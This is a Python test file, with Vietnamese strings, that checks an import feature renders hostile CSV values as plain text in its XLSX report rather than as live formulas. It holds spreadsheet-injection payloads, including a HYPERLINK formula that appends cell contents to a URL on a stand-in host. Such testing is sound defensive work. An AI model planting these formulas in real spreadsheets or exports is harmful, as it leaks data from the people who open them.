"""Hostile import files (issue 20, points 6 and 7): each is refused in one Vietnamese sentence naming
the file (and the line), quickly, without touching the register; the saved report runs nothing.

Every hostile file is built here, in the test's folder: no binary is committed."""

from __future__ import annotations

import zipfile

from openpyxl import load_workbook

from app.importing import service
from app.importing.report import report_folder
from tests.support.import_files import read_report

HEAD = "Mã hồ sơ,Ngày tiếp nhận,Hạn xử lý,Mã thủ tục,Người nộp\n"


def preview(Session, make_ctx, path):
    with Session() as session:
        return service.preview_dossiers(session, make_ctx(), path)


# -- 6 / issue 19.11: the report is a workbook of text cells ------------------------------------------

def test_the_import_report_is_a_workbook_whose_hostile_cells_stay_text(Session, make_ctx, tmp_path):
    hostile = ['=HYPERLINK("http://x.example/?"&A1;"Bấm")', "@SUM(A1)", "+1+2", "-3-4"]
    lines = [f'"{code.replace(chr(34), chr(34) * 2)}",20/11/2026,27/11/2026,P3,An' for code in hostile]
    path = tmp_path / "=cmd.csv"
    path.write_text(HEAD + "\n".join(lines) + "\nHS-1,20/11/2026,27/11/2026,P3,Bình\n", encoding="utf-8")
    plan = preview(Session, make_ctx, path)
    report = service.save_dossier_report(make_ctx(), plan, None)
    assert report.suffix == ".xlsx" and report.parent == report_folder()
    assert not list(report_folder().glob("*.csv"))
    # no sheet holds a formula, not even the title naming the file "=cmd.csv"
    with zipfile.ZipFile(report) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = load_workbook(report)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    rows = read_report(report)
    codes = {row[1] for row in rows["Dòng không nhập được"][4:]}
    assert {"'" + code for code in hostile} <= codes
    assert ("Số dòng dữ liệu", 5) in rows["Tóm tắt"]
    assert any(str(cell).endswith("=cmd.csv") for row in rows["Tóm tắt"] for cell in row if cell)
